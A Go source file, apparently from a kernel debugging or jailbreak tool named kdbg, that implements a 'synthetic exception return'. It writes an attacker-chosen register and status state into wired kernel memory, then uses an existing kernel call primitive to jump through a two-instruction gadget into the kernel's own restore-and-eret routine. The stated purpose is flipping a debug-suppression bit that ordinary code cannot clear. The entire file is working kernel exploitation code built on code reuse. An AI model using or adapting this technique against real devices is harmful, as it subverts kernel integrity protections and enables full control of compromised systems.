package kdbg

import (
	"fmt"

	"github.com/sirupsen/logrus"
)

// ExceptionReturnInjector makes the CPU restore a register state we
// authored, via a genuine return from exception. Once kernel execution
// has begun, the debug suppression bit in the status register cannot be
// cleared by any ordinary instruction; an eret reloading SPSR from a
// block we control is the only way to flip it.
//
// The call primitive is pointed at a two instruction gadget that moves
// its first argument into the register the restore routine expects the
// state block in and branches to its second argument, the kernel's own
// full register restore + eret sequence. This is the sole consumer of
// the call primitive.
type ExceptionReturnInjector struct {
	target *Target
	log    *logrus.Entry
}

func NewExceptionReturnInjector(t *Target, log *logrus.Entry) *ExceptionReturnInjector {
	return &ExceptionReturnInjector{target: t, log: log}
}

// Stage copies a context block into wired scratch memory and returns its
// kernel address. Wired memory only: the restore routine runs with
// interrupts masked and must not fault.
func (inj *ExceptionReturnInjector) Stage(c *Context) (uint64, error) {
	addr, err := inj.target.Alloc.Allocate(ContextSize)
	if err != nil {
		return 0, fmt.Errorf("allocate state block: %w", err)
	}
	if err := inj.target.Mem.WriteBytes(addr, c.Encode()); err != nil {
		return 0, fmt.Errorf("stage state block: %w", err)
	}
	return addr, nil
}

// Inject stages ret and performs the synthetic exception return. On
// success the calling thread's kernel side is already executing at
// ret.SS.PC with ret's register file and status register; the injected
// state decides how (and whether) control eventually comes back.
func (inj *ExceptionReturnInjector) Inject(ret *Context) error {
	addr, err := inj.Stage(ret)
	if err != nil {
		return err
	}

	gadget, err := inj.target.Symbols.Resolve(SymRegisterLoadGadget)
	if err != nil {
		return err
	}
	eret, err := inj.target.Symbols.Resolve(SymExceptionReturn)
	if err != nil {
		return err
	}

	inj.log.WithFields(logrus.Fields{
		"state": fmt.Sprintf("%#x", addr),
		"pc":    fmt.Sprintf("%#x", ret.SS.PC),
		"cpsr":  fmt.Sprintf("%#x", ret.SS.CPSR),
	}).Debug("synthetic exception return")

	if _, err := inj.target.Call.Call(gadget, addr, eret); err != nil {
		return fmt.Errorf("exception return call: %w", err)
	}
	return nil
}
